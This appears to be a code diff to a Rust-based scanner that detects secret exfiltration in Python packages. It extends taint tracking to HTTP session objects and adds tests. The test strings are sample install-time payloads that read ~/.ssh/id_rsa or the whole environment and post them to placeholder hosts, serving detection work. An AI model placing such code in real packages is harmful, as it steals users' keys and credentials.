@@ -175,6 +175,16 @@ pub fn check_sink(checker: &mut Checker, call: &ExprCall, sink: SinkKind) {
         found.extend(checker.source_in(arg));
         found.extend(checker.outranked_remote);
     }
+    // `session.get(url)` after `session.headers.update({'X-Env': …})`: a client object sends
+    // what it was given to hold (headers, cookies, auth) with every request.
+    if sink == SinkKind::Network
+        && let Expr::Attribute(method) = &*call.func
+        && let Expr::Name(client) = &*method.value
+        && !matches!(client.id.as_str(), "self" | "cls")
+        && let Some(source) = checker.scopes.taint_of(client.id.as_str())
+    {
+        found.push(source);
+    }
     found.dedup();
     let context = checker.context();
     // Where it goes: a client sends its token to its vendor, not to a paste site, a tunnel, a
@@ -399,6 +409,19 @@ mod tests {
         }
         let awaited = "import os, aiohttp, asyncio\nasync def read_key():\n    return open(os.path.expanduser('~/.ssh/id_rsa')).read()\nasync def go():\n    async with aiohttp.ClientSession() as s:\n        await s.post('https://x.invalid/k', data=await read_key())\nasyncio.run(go())\n";
         assert!(max_severity("p-1/pkg/__init__.py", awaited, "WH200") >= 0.5);
+    }
+
+    #[test]
+    fn globals_sessions_and_partials_carry_what_they_were_given() {
+        let global = "import os, requests\nDATA = None\ndef collect():\n    global DATA\n    DATA = dict(os.environ)\ndef send():\n    requests.post('https://x.invalid/g', json=DATA)\ncollect()\nsend()\n";
+        assert!(max_severity("p-1/pkg/__init__.py", global, "WH200") >= 0.7);
+        let session = "import os, requests\ns = requests.Session()\ns.headers.update({'X-Env': str(dict(os.environ))})\ns.get('https://x.invalid/h')\n";
+        assert!(max_severity("p-1/pkg/__init__.py", session, "WH200") >= 0.7);
+        let partial = "import os, functools, requests\npost = functools.partial(requests.post, 'https://x.invalid/p')\npost(data=open(os.path.expanduser('~/.ssh/id_rsa')).read())\n";
+        assert!(max_severity("p-1/pkg/__init__.py", partial, "WH200") >= 0.85);
+        // A local only shadows the module's name: no `global`, no flow.
+        let local = "import os, requests\nDATA = None\ndef collect():\n    DATA = dict(os.environ)\n    return 1\ndef send():\n    requests.post('https://x.invalid/g', json=DATA)\ncollect()\nsend()\n";
+        assert!(max_severity("p-1/pkg/__init__.py", local, "WH200") < 0.5);
     }
 
     #[test]
